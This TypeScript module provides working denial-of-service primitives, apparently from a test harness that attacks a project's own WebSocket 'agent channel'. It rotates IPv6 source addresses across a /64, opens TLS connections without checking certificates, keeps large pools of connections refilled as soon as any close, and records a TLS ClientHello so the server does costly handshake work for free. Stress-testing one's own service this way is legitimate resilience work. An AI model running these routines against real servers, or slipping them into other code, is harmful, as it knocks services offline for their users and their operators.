// Raw connections: cheap to open, so that the attacker's share of a processor goes into the attack.
import { connect as connectTcp, createServer, type Socket } from "node:net";
import { connect as connectTls, type TLSSocket } from "node:tls";
import { agentPath } from "../../../../schema/agent/index.ts";
import type { HostIdentity, Target } from "../means.ts";
import type { Battle, Count } from "./attack.ts";

export interface Way {
  readonly host: string;
  readonly port: number;
  readonly localAddress: string;
}

export function wayOverIpv4({ target, means }: Battle): Way {
  return { host: target.ipv4, port: target.port, localAddress: means.from };
}

/** From another address of the attacker's /64 each time. */
export function wayOverIpv6({ target, means }: Battle): Way {
  const group = () => Math.floor(Math.random() * 0xffff + 1).toString(16);
  const localAddress = `${means.from64}:${group()}:${group()}:${group()}:${group()}`;
  return { host: target.ipv6, port: target.port, localAddress };
}

export function openTcp(way: Way): Socket {
  return connectTcp(way).on("error", () => {});
}

/** The server's certificate is not checked: the attacker saves the work. */
export function openTls(way: Way, identity?: HostIdentity): TLSSocket {
  const own = identity && { cert: identity.certificate, key: identity.key };
  return connectTls({ ...way, ...own, rejectUnauthorized: false }).on("error", () => {});
}

export function hostHeader({ ipv4, port }: Target): string {
  return `${ipv4}:${port}`;
}

/**
 * A WebSocket of the agent channel with the attacker's certificate.
 * @param onOpen the upgrade is done @param reads false: nothing is read after the upgrade
 */
export function openChannel(battle: Battle, onOpen: (socket: TLSSocket) => void, reads = true): TLSSocket {
  const { target, means, count } = battle;
  const socket = openTls(wayOverIpv4(battle), means.identity);
  socket.once("secureConnect", () => {
    socket.write(
      `GET ${agentPath} HTTP/1.1\r\nHost: ${hostHeader(target)}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
    );
  });
  socket.once("data", (data: Buffer) => {
    const status = data.subarray(9, 12).toString("latin1");
    count(status === "101" ? "channels" : `refused with ${status}`);
    if (status !== "101") {
      socket.destroy();
      return;
    }
    if (reads) socket.resume().on("data", (frames: Buffer) => countClose(frames, count));
    else socket.pause();
    onOpen(socket);
  });
  return socket;
}

/** A close frame is usually alone in one read (RFC 6455 §5.5.1). */
function countClose(frames: Buffer, count: Count): void {
  if (frames.length >= 4 && frames[0] === 0x88) count(`closed with ${frames.readUInt16BE(2)}`);
}

/** Keeps one connection: opened again as soon as it is closed. @returns ends it */
export function keepOne(open: () => Socket): () => void {
  return keepMany({ size: 1, maxOpening: 1, open: (opened) => open().once("ready", opened) });
}

export interface Kept {
  readonly size: number;
  /** Not yet opened, at the same time. */
  readonly maxOpening: number;
  /** All are open for the first time; absent: the attack does not grow. */
  readonly onFull?: () => void;
  open(opened: () => void): Socket;
}

/** Keeps so many connections open: closed ones are replaced at once. @returns a callback that ends it */
export function keepMany({ size, maxOpening, onFull, open }: Kept): () => void {
  const sockets = new Set<Socket>();
  let opening = 0;
  let isRunning = true;
  let isDue = false;
  const fill = (): void => {
    isDue = false;
    while (isRunning && sockets.size < size && opening < maxOpening) {
      opening += 1;
      let isOpening = true;
      const opened = () => {
        if (!isOpening) return;
        isOpening = false;
        opening -= 1;
        if (opening === 0 && sockets.size === size) onFull?.();
        due();
      };
      const socket = open(opened);
      sockets.add(socket);
      socket.once("close", () => {
        sockets.delete(socket);
        opened();
        due();
      });
    }
  };
  /** Once in a turn of the event loop, so that refusals do not recurse. */
  const due = (): void => {
    if (!isDue) setImmediate(fill);
    isDue = true;
  };
  fill();
  return () => {
    isRunning = false;
    for (const socket of sockets) socket.destroy();
  };
}

/** The first bytes of a TLS client: a server signs and computes keys for them, their sender does nothing. */
export function recordClientHello(): Promise<Buffer> {
  return new Promise((resolve) => {
    const server = createServer((socket) => {
      socket
        .on("error", () => {})
        .once("data", (hello) => {
          resolve(hello);
          socket.destroy();
          server.close();
        });
    });
    server.listen(0, "127.0.0.1", () => {
      const address = server.address();
      const port = typeof address === "object" && address ? address.port : 0;
      openTls({ host: "127.0.0.1", port, localAddress: "127.0.0.1" });
    });
  });
}
